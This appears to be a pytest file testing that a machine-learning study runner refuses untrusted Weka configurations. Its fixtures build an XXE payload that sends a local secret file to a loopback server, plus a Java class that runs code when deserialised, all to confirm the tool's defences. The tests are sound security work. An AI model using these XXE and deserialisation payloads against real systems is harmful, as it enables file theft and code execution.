"""What a stranger's study may do: a test for each sentence of config/README.md."""

import http.server
import shutil
import subprocess
import threading
from pathlib import Path
from types import SimpleNamespace

import pytest

from tenbyten.study import read_machine, read_study
from tenbyten.study.readiness import check_made

ROOT = Path(__file__).resolve().parent.parent.parent
BAYES = "scikit_learn: {learner: sklearn.naive_bayes.GaussianNB}"
NET = "weka.classifiers.bayes.BayesNet"
MODEL = "weka.classifiers.misc.SerializedClassifier"
# A net whose document type sends a file to a server.
XML = """<?xml version="1.0"?>
<!DOCTYPE BIF [
<!ENTITY % file SYSTEM "file://{secret}">
<!ENTITY % remote SYSTEM "http://127.0.0.1:{port}/remote.dtd">
%remote; %all;
]>
<BIF><NETWORK><NAME>&send;</NAME></NETWORK></BIF>
"""
DTD = """<!ENTITY % all "<!ENTITY send SYSTEM 'http://127.0.0.1:{port}/?%file;'>">"""
JAVA = """package evil;
import java.io.*;
public class Model extends weka.classifiers.rules.ZeroR {
  private void readObject(ObjectInputStream in) throws Exception {
    in.defaultReadObject();
    new File("TOUCHED").createNewFile();
  }
  public static void main(String[] files) {
    try (FileOutputStream file = new FileOutputStream(files[0])) {
      new ObjectOutputStream(file).writeObject(new Model());
    } catch (IOException error) { throw new RuntimeException(error); }
  }
}
"""


@pytest.fixture
def asked():
    """A server on loopback; `asked` are the paths that it was asked for."""
    paths = []

    class Answers(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            paths.append(self.path)
            body = DTD.format(port=self.server.server_port).encode()
            self.send_response(200 if self.path.endswith(".dtd") else 404)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answers) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield SimpleNamespace(port=server.server_port, paths=paths)
        server.shutdown()


@pytest.fixture
def hostile(fresh, asked, weka_jar, tmp_path):
    """The tiny study with a net that asks a server, and a model that makes a file.

    The model's class is of a jar that the user has: without one there is nothing to
    deserialise.
    """
    pytest.importorskip("jpype")
    if not shutil.which("javac"):
        pytest.skip("no javac; install a JDK")
    folder = fresh.folder
    (folder / "secret").write_text("it_is_secret")
    net = {"secret": folder / "secret", "port": asked.port}
    (folder / "net.xml").write_text(XML.format(**net))
    java = tmp_path / "java" / "Model.java"
    java.parent.mkdir()
    java.write_text(JAVA.replace("TOUCHED", str(folder / "touched")))
    calls = [
        ["javac", "-nowarn", "-cp", weka_jar, "-d", java.parent, java],
        [
            "java",
            "-cp",
            f"{weka_jar}:{java.parent}",
            "evil.Model",
            folder / "evil.model",
        ],
        ["jar", "cf", folder / "evil.jar", "-C", java.parent, "evil"],
    ]
    for call in calls:
        call = list(map(str, call))
        subprocess.run(call, check=True, capture_output=True, cwd=folder)
    study = folder / "tiny.yaml"
    both = f"weka: {{learner: {NET}, options: '-B {folder}/net.xml'}}\n  Model:\n    "
    both += f"weka: {{learner: {MODEL}, options: '-model {folder}/evil.model'}}"
    text = study.read_text()
    assert BAYES in text
    study.write_text(text.replace(BAYES, both))
    fresh.config = [f"weka_classpath={folder / 'evil.jar'}"]
    return fresh


def test_a_dry_run_and_a_real_one_refuse_what_is_not_harmless(hostile, asked):
    for how in (["--dry-run"], []):
        code, said = hostile(*how, config=hostile.config)
        assert code != 0
        assert said.index("Study tiny loads") < said.index("WorkflowError")
        assert f"GaussianNB: the Java class {NET} with the options '-B" in said
        assert (
            f"classifier GaussianNB names the option -B of {NET}, which reads" in said
        )
        assert f"classifier Model names the class {MODEL}" in said
        assert "--config trust=GaussianNB,Model" in said
    assert asked.paths == []
    assert not (hostile.folder / "touched").exists()
    assert not (hostile.folder / "results").exists()


def test_a_dry_run_makes_no_java_object_even_with_consent(hostile, asked):
    config = [*hostile.config, "trust=GaussianNB,Model"]
    code, said = hostile("--dry-run", config=config)
    assert code == 0, said
    assert "Study tiny loads" in said
    assert asked.paths == []
    assert not (hostile.folder / "touched").exists()


def test_with_consent_both_are_made_before_the_first_job(hostile, asked, monkeypatch):
    """That is what consent is for, and that the traps of these tests work."""
    monkeypatch.chdir(hostile.folder)
    machine = read_machine({"weka_classpath": "evil.jar", "trust": "GaussianNB,Model"})
    study = read_study("tiny.yaml", ROOT)
    check_made(study, study.panels("native"), machine=machine)
    assert asked.paths == ["/remote.dtd", "/?it_is_secret"]
    assert Path("touched").exists()
